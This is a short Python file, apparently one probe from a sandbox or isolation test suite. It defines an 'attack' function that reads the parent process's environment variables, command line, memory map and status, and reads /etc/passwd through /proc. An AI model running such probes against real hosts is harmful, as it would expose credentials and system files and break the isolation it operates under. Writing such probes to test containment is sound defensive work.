"""Read the environment and the memory map of the host."""

import os


def attack(ctx, at):
    found = []
    for name in ("environ", "cmdline", "maps", "status", "cwd/.", "root/etc/passwd"):
        try:
            with open(f"/proc/{os.getppid()}/{name}", "rb") as file:
                found.append(file.read(50))
        except OSError:
            continue
    return found
